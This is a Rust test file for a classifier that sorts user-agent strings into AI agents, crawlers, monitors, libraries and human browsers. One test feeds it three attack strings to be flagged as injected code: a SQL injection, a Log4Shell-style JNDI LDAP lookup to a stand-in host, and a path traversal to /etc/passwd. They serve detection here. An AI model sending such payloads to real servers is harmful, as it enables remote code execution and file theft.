use super::*;
use crate::{Channel, Class, CountsAs};

#[test]
fn agents_of_the_list() {
    for (user_agent, wanted) in [
        (CHATGPT, "assistant token:ChatGPT-User"),
        (GPTBOT, "training_crawler token:GPTBot"),
        ("Claude-User (claude-code/2.1.86; +https://support.anthropic.com/)", "coding_agent token:Claude Code"),
        ("claude-cli/2.0.1 (external, cli)", "coding_agent token:Claude Code"),
        ("glab/v1.97.0 (darwin, arm64) Coding-Agent/claude-code", "coding_agent token:Claude Code"),
        ("GeminiCLI/0.1.0 Node.js/v22.14.0 (darwin; arm64)", "coding_agent token:Gemini CLI"),
        ("opencode/latest/1.2.3/cli", "coding_agent token:opencode"),
        (
            "Mozilla/5.0 (X11; Linux x86_64) AppleWebKit/537.36 (KHTML, like Gecko) Code/1.104.0 Chrome/138.0.0.0 \
             Electron/37.3.1 Safari/537.36",
            "coding_agent token:VS Code agent",
        ),
        ("Mozilla/5.0 (compatible; Applebot/0.1; +http://www.apple.com/go/applebot)", "search_engine token:Applebot"),
        ("facebookexternalhit/1.1 Facebot Twitterbot/1.0", "preview token:facebookexternalhit"),
        ("python-requests/2.31.0", "library library:python-requests"),
        ("python-httpx/0.27.0", "library library:python-httpx"),
        ("curl/8.5.0", "library library:curl"),
        ("", "library library:no-user-agent"),
        (CHROME, "human browser"),
    ] {
        assert_eq!(told(&verdict(user_agent)), wanted, "{user_agent}");
    }
}

#[test]
fn names_that_are_on_no_list() {
    for (user_agent, wanted) in [
        ("Mozilla/5.0 (compatible; Novita-User/1.0; +https://example.com/bot)", "assistant name:*-User"),
        ("Zeta-SearchBot/2.0", "ai_search name:*-SearchBot"),
        ("Mozilla/5.0 (compatible; FooGPTBot/1.0; +https://example.com)", "training_crawler name:ai+crawler"),
        ("Mozilla/5.0 (compatible; SomeCrawler/1.0; +https://some.ai/crawler)", "training_crawler name:ai+crawler"),
        ("ByteDance-User/1.0", "assistant name:*-User"),
        ("GrokUser/1.0", "assistant name:*-User"),
        ("Qwen-SearchBot/1.0", "ai_search name:*-SearchBot"),
        ("QwenBot/1.0", "training_crawler name:ai+crawler"),
        ("TrainingDataBot/1.0", "training_crawler name:train"),
        ("Google-Gemini-CLI/1.0", "coding_agent name:ai+code"),
        ("acme-llm-cli/0.3", "coding_agent name:ai+code"),
        ("Mozilla/5.0 (compatible; ExampleBot/1.0; +https://example.com/bot)", "other_bot bot:bot"),
        ("Mozilla/5.0 (compatible; Example; +https://example.com)", "other_bot bot:contact"),
        ("Example Monitor/1.0", "monitor bot:monitor"),
        ("ExampleRSSReader/3.0", "feed_reader bot:rssread"),
        ("ExampleLinkPreview/1.0", "preview bot:preview"),
        ("acme-http-client/1.0", "library library:-http"),
        ("Mozilla/5.0", "other_bot bot:no-engine"),
        ("Frobnicator/1.0", "other_bot bot:no-browser"),
    ] {
        assert_eq!(told(&verdict(user_agent)), wanted, "{user_agent}");
    }
}

/// What a browser says on a desktop, with `added` behind it.
fn with(added: &str) -> String {
    format!("{CHROME} {added}")
}

#[test]
fn machines_under_the_name_of_a_browser() {
    let engine = |added: &str| CHROME.replace("like Gecko", &format!("like Gecko; {added}"));
    let platform = |added: &str| CHROME.replace("x64)", &format!("x64; {added})"));
    for (user_agent, wanted) in [
        (engine("Google Page Speed Insights"), "monitor token:Lighthouse"),
        (engine("Google Search Console"), "monitor token:Google Search Console"),
        (engine("Google-BusinessLinkVerification"), "monitor token:Google link verification"),
        (engine("Google-Adwords-DisplayAds-WebRender"), "other_bot token:Google Ads agents"),
        (engine("Google-Publisher-Plugin"), "other_bot token:Google Ads agents"),
        (engine("Google-Something-New"), "other_bot bot:google-"),
        (engine("Foregenix"), "monitor token:Security scanners"),
        (with("Google Favicon"), "search_engine token:Google Favicon"),
        (with("Google-Ads-Conversions"), "other_bot token:Google Ads agents"),
        (with("CloudflareObservatory/1.0"), "monitor token:Cloudflare Observatory"),
        (with("CloudflareDiagnostics/1.0"), "monitor token:Cloudflare Observatory"),
        (with("DMBrowser/2.1 (UV)"), "monitor token:Dotcom-Monitor"),
        (with("ArchiveBox/0.6.2"), "other_bot token:ArchiveBox"),
        (with("Assetnote/1.0.0"), "monitor token:Security scanners"),
        (platform("Catchpoint"), "monitor token:Catchpoint"),
        (platform("Rigor"), "monitor token:Splunk Synthetics"),
        (CHROME.replace("537.36 (KHTML", "537.36/Nutch-1.7 (KHTML"), "other_bot token:Nutch"),
        (with("Frobnicator/1.0"), "other_bot bot:added-name"),
        (with("'+(select load_file('x.example'))+'"), "monitor bot:injected-code"),
        (with("${jndi:ldap://x.example/a}"), "monitor bot:injected-code"),
        (with("../../../etc/passwd"), "monitor bot:injected-code"),
    ] {
        assert_eq!(told(&verdict(&user_agent)), wanted, "{user_agent}");
    }
    for (user_agent, wanted) in [
        (
            "Mozilla/5.0 (Linux; U; Android 4.0.2; en-us; Catchpoint) AppleWebKit/534.30 (KHTML, like Gecko) Version/4.0 Mobile Safari/534.30",
            "monitor token:Catchpoint",
        ),
        ("Mozilla/4.0 (compatible; MSIE 7.0; Windows NT 5.0) Match by Siteimprove.com", "monitor token:Siteimprove"),
        ("Chrome Privacy Preserving Prefetch Proxy", "other_bot token:Privacy-preserving prefetch proxy"),
        ("Chrome", "other_bot bot:no-engine"),
        ("Safari", "other_bot bot:no-engine"),
        ("Firefox/120.0", "other_bot bot:no-engine"),
        ("OpenAI/JS 4.20.0", "library library:SDKs of model providers"),
        ("AsyncOpenAI/Python 1.35.3", "library library:SDKs of model providers"),
    ] {
        assert_eq!(told(&verdict(user_agent)), wanted, "{user_agent}");
    }
}

#[test]
fn a_device_or_an_app_may_be_called_as_machines_are() {
    let on = |device: &str, app: &str| {
        format!(
            "Mozilla/5.0 (Linux; Android 13; {device}) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/124.0.0.0 Mobile Safari/537.36{app}"
        )
    };
    for device in
        ["M bot 54", "XBot Junior", "Spider 8", "VR BOT 552 PLUS", "C Bot Tab 70", "IDbot553 Build/MRA58K", "CUBOT_P20"]
    {
        assert_eq!(verdict(&on(device, "")).counts_as(), CountsAs::Human, "{device}: {:?}", verdict(&on(device, "")));
        assert_eq!(crate::classify::reduce(&on(device, "")), "Chrome mobile", "{device}");
    }
    for app in [" CamScanner/4.5.0", " fuboTV/4.75", " PriceChecker/2.0", " SomePodcasts/3.1", " Caboto/1.0"] {
        assert_eq!(verdict(&on("K", app)).counts_as(), CountsAs::Human, "{app}: {:?}", verdict(&on("K", app)));
    }
    for bot in [" SomeBot/1.0", " (compatible; Some; +https://example.com)", " Chrome-Lighthouse"] {
        assert_eq!(verdict(&on("K", bot)).counts_as(), CountsAs::Other, "{bot}");
    }
    assert_eq!(told(&verdict(&on("SomeBot/1.0", ""))), "other_bot bot:bot", "a product in the place of a device");
}

#[test]
fn an_editor_without_an_agent_is_a_person_who_looks_at_a_page() {
    let code = |version: &str| {
        CHROME.replace("Chrome/", &format!("Code/{version} Chrome/")).replace("Safari/", "Electron/13.1.8 Safari/")
    };
    for version in ["1.60.2", "1.98.0"] {
        assert_eq!(told(&verdict(&code(version))), "human browser", "{version}");
    }
    for version in ["1.99.0", "1.104.3", "2.0.1"] {
        assert_eq!(told(&verdict(&code(version))), "coding_agent token:VS Code agent", "{version}");
    }
}

#[test]
fn an_installation_can_name_its_own_apps() {
    let folder = tempfile::tempdir().unwrap();
    std::fs::write(folder.path().join("agents.toml"), "date = \"2026-11-17\"\napps = \"Frobnicator\"\n").unwrap();
    let own = Classifier::load(Some(folder.path())).unwrap();
    assert_eq!(judge(&own, &Probe::of(&with("Frobnicator/1.0"))).counts_as(), CountsAs::Human);
    assert_eq!(judge(&own, &Probe::of(&with("Vivaldi/6.1"))).counts_as(), CountsAs::Human);
    assert_eq!(judge(&own, &Probe::of(&with("Other/1.0"))).counts_as(), CountsAs::Other);
}

#[test]
fn people_are_not_machines() {
    for user_agent in [
        CHROME,
        "Mozilla/5.0 (Linux; Android 9; CUBOT_X18_Plus) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/143.0 Mobile Safari/537.36",
        "Mozilla/5.0 (Linux; Android 6.0; IDbot553 Build/MRA58K) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/63.0 Mobile Safari/537.36",
        "Mozilla/5.0 (iPhone; CPU iPhone OS 18_7 like Mac OS X) AppleWebKit/605.1.15 (KHTML, like Gecko) Mobile/15E148 ChatGPT/1.2026.1",
        "Mozilla/5.0 (Linux; Android 15; Pixel 9; wv) AppleWebKit/537.36 (KHTML, like Gecko) Version/4.0 Chrome/142.0 Mobile Safari/537.36 Viber/25.1",
        "Mozilla/5.0 (Linux; Android 10; K) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/150.0.0.0 Mobile Safari/537.36 (Ecosia android@150.0.0.0)",
        "Mozilla/4.0 (compatible; MSIE 8.0; Windows NT 5.1; Trident/4.0; EasyBits GO v1.0; .NET CLR 2.0.50727)",
        "Mozilla/5.0 (compatible; Konqueror/4.4; Linux) KHTML/4.4.5 (like Gecko) Kubuntu",
        "Opera/9.80 (Windows NT 6.1; U; en) Presto/2.8.131 Version/11.11",
        "Mozilla/5.0+(Windows+NT+10.0;+Win64;+x64)+AppleWebKit/537.36+(KHTML,+like+Gecko)+Chrome/120.0+Safari/537.36",
        "Lynx/2.8.9rel.1 libwww-FM/2.14",
        "Mozilla/4.7 [en] (Win98; I)",
        "mozilla/5.0 (linux; android 9; armor_7) applewebkit/537.36 (khtml, like gecko) chrome/83.0.4103.106 mobile safari/537.36",
        "Mozilla/5.0(WindowsNT10.0;Win64;x64)AppleWebKit/537.36(KHTML,likeGecko)Chrome/138.0.0.0Safari/537.36",
        "Mozilla/5.0 (Web0S; Linux/SmartTV) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/94.0.4606.128 Safari/537.36 WebAppManager",
    ] {
        assert_eq!(verdict(user_agent).counts_as(), CountsAs::Human, "{user_agent}: {:?}", verdict(user_agent));
    }
}

#[test]
fn what_asks_for_markdown_is_ai_unless_it_says_what_it_is() {
    let classifier = Classifier::builtin();
    let by_path = |user_agent| judge(&classifier, &Probe { markdown_path: true, ..Probe::of(user_agent) });
    for unknown in ["", CHROME, "Frobnicator/1.0", "Mozilla/5.0"] {
        assert_eq!(told(&by_path(unknown)), "markdown_fetch shape:markdown", "{unknown}");
        assert_eq!(by_path(unknown).counts_as(), CountsAs::Ai);
    }
    for (says, wanted) in [
        (GPTBOT, "training_crawler token:GPTBot"),
        ("Mozilla/5.0 (compatible; Googlebot/2.1; +http://www.google.com/bot.html)", "search_engine token:Googlebot"),
        ("SomeBot/1.0 (+https://example.com)", "other_bot bot:bot"),
        ("Mozilla/5.0 (compatible; Example; +https://example.com)", "other_bot bot:contact"),
        ("Mozilla/5.0 (compatible; Example/2.0)", "other_bot bot:compatible"),
        ("Example Monitor/1.0", "monitor bot:monitor"),
        ("ExampleRSSReader/3.0", "feed_reader bot:rssread"),
        ("ExampleLinkPreview/1.0", "preview bot:preview"),
        ("example-search/1.0", "search_engine bot:search"),
        ("axios/1.8.4", "library library:axios"),
        ("curl/8.5.0", "library library:curl"),
        ("acme-http-client/1.0", "library library:-http"),
    ] {
        assert_eq!(told(&by_path(says)), wanted, "{says}");
        assert_eq!(by_path(says).counts_as(), CountsAs::Other, "{says}");
    }
    assert_eq!(told(&by_path(CHATGPT)), "assistant token:ChatGPT-User");
    let accept = Some("text/markdown, text/html, */*");
    assert_eq!(judge(&classifier, &Probe { accept, ..Probe::of(CHROME) }).class, Class::MarkdownFetch);
    assert_eq!(judge(&classifier, &Probe { accept, ..Probe::of("axios/1.8.4") }).class, Class::Library);
    let accept = Some("text/html,application/xhtml+xml,*/*;q=0.8");
    assert_eq!(judge(&classifier, &Probe { accept, ..Probe::of(CHROME) }).class, Class::Human);
}

#[test]
fn a_page_that_runs_a_script_is_seen_by_a_browser() {
    let classifier = Classifier::builtin();
    let in_script = |probe: Probe<'_>| judge(&classifier, &Probe { channel: Channel::Script, ..probe });
    assert_eq!(in_script(Probe { markdown_path: true, ..Probe::of(CHROME) }).class, Class::Human);
    assert_eq!(told(&in_script(Probe::of(""))), "library library:no-user-agent", "every browser says what it is");
    assert_eq!(in_script(Probe::of("Mozilla/5.0 HeadlessChrome/1")).class, Class::OtherBot);
}

#[test]
fn words_for_robots_txt_are_not_user_agents() {
    let classifier = Classifier::builtin();
    let tokens = || classifier.agents().iter().flat_map(|agent| &agent.tokens);
    assert!(tokens().all(|token| !token.to_ascii_lowercase().ends_with("-extended") || token == "webzio-extended"));
    for word in ["Google-Extended", "Applebot-Extended"] {
        let forged = verdict(&format!("Mozilla/5.0 (compatible; {word}/1.0; +http://www.google.com/bot.html)"));
        assert_eq!(forged.counts_as(), CountsAs::Other);
        assert!(!matches!(forged.class, Class::TrainingCrawler | Class::AiSearch), "{forged:?}");
    }
}

#[test]
fn every_agent_is_found_by_each_of_its_tokens() {
    let classifier = Classifier::builtin();
    for agent in classifier.agents() {
        for token in &agent.tokens {
            let found = judge(&classifier, &Probe::of(&format!("{token}/1.0 (+https://example.com)")));
            assert_eq!(found.class, agent.class, "{token} of {}: {found:?}", agent.name);
        }
        assert!(!agent.purpose.is_empty() && !agent.operator.is_empty(), "{}", agent.name);
    }
}
